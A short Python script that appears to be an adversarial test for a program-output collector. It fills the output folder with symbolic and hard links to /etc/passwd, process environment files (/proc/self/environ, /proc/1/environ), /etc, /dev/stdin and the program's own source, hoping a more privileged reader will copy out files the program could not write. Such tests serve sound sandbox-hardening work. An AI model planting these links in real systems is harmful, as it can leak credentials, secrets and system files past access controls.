"""Attacked: whoever reads the results, where it may read more than the program may. The results are links: to
files, to folders, to processes, hard and symbolic, and the results folder's own name is swapped for one.

Won: a result with the text of something that the program did not write.
"""

import os

with open("output/kept", "w") as file:
    file.write("kept")
targets = ["/etc/passwd", "/proc/self/environ", "/proc/1/environ", "/etc/hostname", "/dev/stdin", "/etc"]
for number, target in enumerate(targets):
    os.symlink(target, f"output/soft{number}")
    try:
        os.link(target, f"output/hard{number}")
    except OSError:
        continue
os.mkdir("output/within")
os.symlink("../../program.py", "output/within/program")
print("HELD")
